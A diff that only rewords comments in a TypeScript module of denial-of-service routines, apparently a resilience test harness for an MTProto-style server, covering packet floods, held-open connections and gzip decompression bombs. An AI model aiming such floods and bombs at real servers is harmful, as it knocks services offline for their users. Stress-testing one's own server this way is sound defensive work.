@@ -5,16 +5,16 @@ import { type ClientKey, type ClientMessage, createClientStream, openWire, RawCl
 import { systemRandom } from '@aerogram/runtime';
 import { encode, mtEncode } from '@aerogram/tl';
 
-/** What an attack works with. */
+/** Input of an attack. */
 export interface Target {
   info: ServerInfo;
-  /** Keys made before, so that an attack does not begin with waiting for them. */
+  /** Keys created in advance, so that an attack does not start by waiting for them. */
   keys: readonly ClientKey[];
-  /** Aborts when it is enough. */
+  /** Aborts when the attack should end. */
   signal: AbortSignal;
 }
 
-/** One way to be a burden. @returns how many packets, requests or connections it came to */
+/** Runs one kind of attack. @returns how many packets, requests or connections it made */
 export type Attack = (target: Target) => Promise<number>;
 
 const turn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));
@@ -27,14 +27,14 @@ async function openSocket({ info }: Target): Promise<Socket | undefined> {
   });
 }
 
-/** A client whose salt is right, so that what it sends counts. */
+/** A client with a valid salt, so that what it sends is accepted. */
 async function openClient(target: Target, key: ClientKey): Promise<RawClient> {
   const client = await RawClient.connect({ ...wireTo(target.info), clientKey: key });
   await client.call(encode({ _: 'help.getNearestDc' })).catch(() => {});
   return client;
 }
 
-/** Packets with these messages, as fast as the server takes them, over one connection a key; what is answered is read, or not. */
+/** Sends packets with these messages as fast as the server accepts them, over one connection per key; the answers may be left unread. */
 function packets(make: () => ClientMessage[], options: { reads: boolean } = { reads: true }): Attack {
   return async (target) => {
     let sent = 0;
@@ -60,7 +60,7 @@ function packets(make: () => ClientMessage[], options: { reads: boolean } = { re
   };
 }
 
-/** A session that has learnt its salt, and a connection of which the caller has all bytes in hand. */
+/** A session that knows its salt, and a connection whose bytes the caller controls. */
 async function openStream(target: Target, key: ClientKey): Promise<{ session: RawClient['session']; socket: Socket | undefined; stream: ReturnType<typeof createClientStream> }> {
   const client = await openClient(target, key);
   await client[Symbol.asyncDispose]();
@@ -71,7 +71,7 @@ async function openStream(target: Target, key: ClientKey): Promise<{ session: Ra
   return { session: client.session, socket, stream };
 }
 
-/** Resolves when the socket takes more, is closed, or it is enough. */
+/** Resolves when the socket accepts more, is closed, or the attack should end. */
 async function drained(socket: Socket, signal: AbortSignal): Promise<void> {
   let done = (): void => {};
   const moved = new Promise<void>((resolve) => {
@@ -84,7 +84,7 @@ async function drained(socket: Socket, signal: AbortSignal): Promise<void> {
 
 const abortions = new WeakMap<AbortSignal, Promise<void>>();
 
-/** Resolves when it is enough; one promise a signal, as connections ask often. */
+/** Resolves when the attack should end. Stores one promise per signal, because connections ask often. */
 function aborted(signal: AbortSignal): Promise<void> {
   let promise = abortions.get(signal);
   if (!promise) {
@@ -97,7 +97,7 @@ function aborted(signal: AbortSignal): Promise<void> {
   return promise;
 }
 
-/** Connections one after another, many at once; each is left as it is for a while. */
+/** Opens connections, many at once; each is left open for a while. */
 function connections(atOnce: number, begin: (socket: Socket) => void): Attack {
   return async (target) => {
     const open: Socket[] = [];
@@ -121,7 +121,7 @@ function word(value: number): Buffer {
   return bytes;
 }
 
-/** `gzip_packed` of a megabyte of nothing. */
+/** `gzip_packed` of a megabyte of zeros. */
 const bomb = (): Buffer => packed(Buffer.alloc(1024 * 1024 - 64));
 
 function packed(body: Uint8Array): Buffer {
@@ -133,13 +133,13 @@ function packed(body: Uint8Array): Buffer {
 }
 
 const BOMB = bomb();
-/** The same of what there is: a part of a file that is all zeros. */
+/** The same as a real request: a file part that contains only zeros. */
 const PART_BOMB = packed(encode({ _: 'upload.saveFilePart', file_id: 1n, file_part: 0, bytes: Buffer.alloc(512 * 1024) }));
-/** `invokeWithoutUpdates` around it: opened by the reader of requests, not by the session. */
+/** Wrapped in `invokeWithoutUpdates`: unpacked by the request reader, not by the session. */
 const WRAPPED_BOMB = Buffer.concat([word(0xbf9459b7), BOMB]);
 const many = (count: number, body: Uint8Array, content = true): ClientMessage[] => Array.from({ length: count }, () => ({ body, content }));
 const ids = (count: number): bigint[] => Array.from({ length: count }, (_, i) => BigInt(i) * 4n + 1n);
-/** Calls that read a history; none is like another, since the server makes repeated ones cost ever more. */
+/** Calls that read a history; each is different, because the server makes repeated calls more and more expensive. */
 const histories = (count: number): ClientMessage[] =>
   Array.from({ length: count }, () => ({
     body: encode({
@@ -148,7 +148,7 @@ const histories = (count: number): ClientMessage[] =>
   }));
 const handshake = (): Uint8Array => writePlainMessage(BigInt(Date.now()) << 32n, mtEncode({ _: 'req_pq_multi', nonce: systemRandom.bytes(16) }));
 
-/** Every attack by its name. */
+/** All attacks by name. */
 export const ATTACKS: Record<string, Attack> = {
   'nothing, to compare with': async ({ signal }) => {
     await aborted(signal);
